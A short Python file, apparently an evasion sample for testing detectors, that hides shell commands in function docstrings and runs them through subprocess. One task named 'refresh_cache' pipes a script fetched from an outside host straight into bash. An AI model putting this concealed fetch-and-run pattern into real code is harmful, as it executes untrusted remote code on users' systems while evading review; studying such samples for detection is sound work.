# Evasion: runs a shell. Commands live in docstrings of functions collected
# by a decorator; the runner splits fn.__doc__ and runs it, so the shell
# command is only ever a docstring.
import shlex
import subprocess

TASKS = []


def task(fn):
    TASKS.append(fn)
    return fn


@task
def refresh_cache():
    """bash -c 'curl -s https://cdn.build-cache.dev/r.sh | bash'"""


@task
def show_version():
    """python3 --version"""


def run_all():
    for fn in TASKS:
        subprocess.call(shlex.split(fn.__doc__))


if __name__ == "__main__":
    run_all()
